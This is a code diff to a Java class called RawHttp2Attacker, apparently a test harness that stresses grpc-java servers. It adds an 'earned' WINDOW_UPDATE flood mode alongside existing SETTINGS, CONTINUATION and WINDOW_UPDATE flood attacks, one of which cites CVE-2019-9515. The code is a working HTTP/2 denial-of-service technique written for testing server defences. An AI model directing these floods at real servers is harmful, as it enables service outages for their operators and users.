@@ -47,6 +47,12 @@ public final class RawHttp2Attacker {
 	/** An unsolicited PING ACK payload that none of grpc-java's own PINGs uses. */
 	private static final long STRAY_PING_PAYLOAD = 0x5A5A5A5A5A5A5A5AL;
 
+	/** WINDOW_UPDATE frames per call of {@link Mode#EARNED_WINDOW_UPDATE_FLOOD}. */
+	public static final int WINDOW_UPDATES_PER_CALL = 50;
+
+	/** A gRPC message for Echo: the 5-byte prefix, then EchoRequest{text: "x"}. */
+	private static final byte[] ECHO_MESSAGE = { 0, 0, 0, 0, 3, 0x0a, 0x01, 0x78 };
+
 	/** A CONTINUATION fragment: part of a literal header field, never completed. */
 	private static final byte[] CONTINUATION_FRAGMENT = new byte[16];
 
@@ -67,6 +73,13 @@ public final class RawHttp2Attacker {
 
 		/** WINDOW_UPDATE frames with an increment of 1 on the connection. */
 		WINDOW_UPDATE_FLOOD,
+
+		/**
+		 * Unary calls that complete (HEADERS, then a request with END_STREAM, each answered with
+		 * DATA) to earn WINDOW_UPDATE credit, with {@value #WINDOW_UPDATES_PER_CALL}
+		 * WINDOW_UPDATE frames on the connection after each call.
+		 */
+		EARNED_WINDOW_UPDATE_FLOOD,
 
 		/** Empty SETTINGS frames, each of which the server must acknowledge (CVE-2019-9515). */
 		SETTINGS_FLOOD,
@@ -287,6 +300,8 @@ public final class RawHttp2Attacker {
 
 			private int openStream;
 
+			private long windowUpdatesSinceCall;
+
 			/** Client streams are odd, from 1 on each connection. */
 			private int nextStreamId = 1;
 
@@ -352,6 +367,14 @@ public final class RawHttp2Attacker {
 						this.out.write(Http2Frames.data(this.openStream, new byte[0], false));
 					}
 					case WINDOW_UPDATE_FLOOD -> this.out.write(Http2Frames.windowUpdate(0, 1));
+					case EARNED_WINDOW_UPDATE_FLOOD -> {
+						if (this.windowUpdatesSinceCall++ % WINDOW_UPDATES_PER_CALL == 0) {
+							int stream = newStream();
+							this.out.write(Http2Frames.headers(stream, this.requestHeaders, false, true));
+							this.out.write(Http2Frames.data(stream, ECHO_MESSAGE, true));
+						}
+						this.out.write(Http2Frames.windowUpdate(0, 1));
+					}
 					case SETTINGS_FLOOD -> this.out.write(Http2Frames.settings());
 					case CONTINUATION_FLOOD -> {
 						if (this.openStream == 0) {
